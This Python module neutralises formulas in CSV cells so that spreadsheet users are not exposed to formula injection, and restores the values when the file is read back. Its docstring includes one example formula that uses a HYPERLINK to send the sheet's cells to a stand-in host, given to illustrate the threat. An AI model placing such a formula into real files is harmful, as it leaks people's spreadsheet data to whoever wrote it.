"""Cells written to CSV files that people open in a spreadsheet: formulas neutralised.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: ``=HYPERLINK("http://host/?x="&A1,"click")`` in a prompt sends
the sheet's cells to whoever wrote the prompt. :func:`neutralize_cell` puts a ``'`` in front of
such a value, which spreadsheets show as text and hide; :func:`restore_cell` takes it off when
evalkit reads the file back, so a value survives the round trip unchanged. A value that
already starts with ``'`` before such a character gets one more, so restoring is unambiguous.
"""

from __future__ import annotations

import re

#: A value a spreadsheet would read as a formula, after any quotes added before.
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralize_cell(value: object) -> object:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula.

    Args:
        value: A cell value; only strings are changed.

    Returns:
        The value to write.

    Examples:
        >>> neutralize_cell("=1+1"), neutralize_cell("fine"), neutralize_cell(-1)
        ("'=1+1", 'fine', -1)
    """
    if isinstance(value, str) and _FORMULA.match(value):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """The value :func:`neutralize_cell` was given, from what it wrote.

    Args:
        value: A cell read from the file.

    Returns:
        The value without the ``'`` added on writing.

    Examples:
        >>> restore_cell("'=1+1"), restore_cell("''=x"), restore_cell("'quoted")
        ('=1+1', "'=x", "'quoted")
    """
    if value.startswith("'") and _FORMULA.match(value[1:]):
        return value[1:]
    return value
